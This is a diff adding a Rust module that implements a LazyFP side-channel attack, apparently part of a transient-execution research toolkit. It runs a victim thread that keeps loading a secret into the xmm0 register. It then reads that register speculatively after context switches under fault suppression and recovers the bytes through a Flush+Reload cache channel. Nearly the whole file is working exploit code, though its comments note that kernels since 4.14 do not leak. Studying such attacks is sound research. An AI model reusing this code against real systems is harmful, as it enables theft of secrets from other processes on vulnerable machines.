@@ -0,0 +1,209 @@
+//! Lazy FP state restore. Kernels that switch FPU state lazily leave the
+//! previous task's registers in place on a context switch, and set a flag
+//! that makes the next FPU or SSE instruction fault so the state can be
+//! swapped then. On Intel parts, an instruction that reads a register that
+//! way is handed the stale value before the fault is raised.
+//!
+//! The victim here is a thread on the same core that keeps loading a secret
+//! into `xmm0` and yielding. The sampling thread yields to it, and reads
+//! `xmm0` under fault suppression as soon as it runs again. Linux switches
+//! eagerly by default since 4.6, and only can since 4.14, so on current
+//! kernels nothing leaks.
+
+use libc;
+use std::fs::File;
+use std::io::{self, Read};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::thread::{self, JoinHandle};
+
+use channel::Channel;
+use covert::CovertChannel;
+use cpu;
+use kernel;
+use reader::{allocate_probe_buf, ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+use suppress::{ExceptionSuppressor, Suppression};
+
+// samples voted on per byte, each decoded from TIMINGS_PER_GUESS reads
+// after a context switch
+const ROUNDS: usize = 16;
+
+/// The longest secret that fits in the `xmm` register the victim loads.
+pub const MAX_SECRET_LEN: usize = 16;
+
+// the kernel release, as major and minor version
+fn kernel_version() -> io::Result<(u32, u32)> {
+    let release = kernel::release()?;
+    let mut parts = release.split(|c: char| !c.is_digit(10));
+    match (
+        parts.next().and_then(|major| major.parse().ok()),
+        parts.next().and_then(|minor| minor.parse().ok()),
+    ) {
+        (Some(major), Some(minor)) => Ok((major, minor)),
+        _ => Err(io::Error::new(
+            io::ErrorKind::InvalidData,
+            format!("unrecognized kernel release `{}`", release),
+        )),
+    }
+}
+
+/// Whether the running kernel can switch FPU state lazily: always before
+/// 4.6, with `eagerfpu=off` before 4.14, and never since.
+pub fn lazy_switching_possible() -> io::Result<bool> {
+    let version = kernel_version()?;
+    if version < (4, 6) {
+        return Ok(true);
+    }
+    if version >= (4, 14) {
+        return Ok(false);
+    }
+    let mut cmdline = String::new();
+    File::open("/proc/cmdline")?.read_to_string(&mut cmdline)?;
+    Ok(cmdline.split_whitespace().any(|arg| arg == "eagerfpu=off"))
+}
+
+// keeps loading the secret at secret into xmm0 and yielding the core, until
+// stop is set
+fn run_victim(secret: usize, stop: &AtomicBool) {
+    while !stop.load(Ordering::Relaxed) {
+        unsafe {
+            asm!("movdqu ($0), %xmm0" :: "r" (secret) : "xmm0" : "volatile");
+            libc::sched_yield();
+        }
+    }
+}
+
+// stores xmm0 at out. faults if the kernel hasn't restored this thread's
+// FPU state yet
+#[inline(always)]
+unsafe fn read_xmm0(out: *mut u8) {
+    asm!("movdqu %xmm0, ($0)" :: "r" (out) : "memory" : "volatile");
+}
+
+/// Leaks a secret another thread on the same core left in its `xmm0`, by
+/// reading the register right after a context switch, and receives through
+/// a Flush+Reload cache side channel.
+pub struct LazyFpSampler<S: ExceptionSuppressor = Suppression> {
+    suppressor: S,
+    receiver: Receiver,
+    secret: Box<[u8; MAX_SECRET_LEN]>,
+    stop: Arc<AtomicBool>,
+    victim: Option<JoinHandle<()>>,
+    len: usize,
+}
+
+impl LazyFpSampler {
+    /// Creates a sampler using the best suppression strategy this CPU
+    /// supports.
+    pub fn new(secret: &[u8], core: usize) -> io::Result<LazyFpSampler> {
+        LazyFpSampler::with_suppressor(Suppression::detect(), secret, core)
+    }
+}
+
+impl<S: ExceptionSuppressor> LazyFpSampler<S> {
+    /// Starts a victim thread pinned to `core` that keeps loading `secret`,
+    /// prepares the given fault suppressor, and calibrates the cache hit
+    /// threshold. The calling thread has to be pinned to `core` too, so the
+    /// two of them take turns on it.
+    pub fn with_suppressor(
+        suppressor: S,
+        secret: &[u8],
+        core: usize,
+    ) -> io::Result<LazyFpSampler<S>> {
+        if secret.len() > MAX_SECRET_LEN {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                format!("the secret has to fit in {} bytes", MAX_SECRET_LEN),
+            ));
+        }
+        suppressor.install()?;
+        let channel = Channel::Page;
+        let probe_buf = allocate_probe_buf(&suppressor, channel, false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+
+        let mut secret_buf = Box::new([0u8; MAX_SECRET_LEN]);
+        secret_buf[..secret.len()].copy_from_slice(secret);
+        let stop = Arc::new(AtomicBool::new(false));
+        let victim = {
+            let stop = stop.clone();
+            let secret = secret_buf.as_ptr() as usize;
+            thread::spawn(move || {
+                if cpu::pin_to_core(core).is_ok() {
+                    run_victim(secret, &stop)
+                }
+            })
+        };
+
+        Ok(LazyFpSampler {
+            suppressor,
+            receiver,
+            secret: secret_buf,
+            stop,
+            victim: Some(victim),
+            len: secret.len(),
+        })
+    }
+
+    pub fn suppressor(&self) -> &S {
+        &self.suppressor
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// The address of the secret the victim loads.
+    pub fn secret_addr(&self) -> *const u8 {
+        self.secret.as_ptr()
+    }
+
+    /// Leaks the byte at `offset` into the victim's `xmm0`, from reads made
+    /// right after yielding to it.
+    pub fn guess_byte(&self, offset: usize) -> ByteGuess {
+        assert!(offset < MAX_SECRET_LEN);
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        let mut register = [0u8; MAX_SECRET_LEN];
+        let out = register.as_mut_ptr();
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    channel.prepare(1);
+                    libc::sched_yield();
+                    {
+                        let channel = &channel;
+                        self.suppressor.suppress(#[inline(always)]
+                        || {
+                            read_xmm0(out);
+                            channel.encode(0, out.add(offset).read_volatile())
+                        });
+                    }
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks the whole secret.
+    pub fn guess_secret(&self) -> Vec<ByteGuess> {
+        (0..self.len).map(|offset| self.guess_byte(offset)).collect()
+    }
+}
+
+impl<S: ExceptionSuppressor> Drop for LazyFpSampler<S> {
+    // the victim has to stop loading the secret before it's freed
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(victim) = self.victim.take() {
+            let _ = victim.join();
+        }
+    }
+}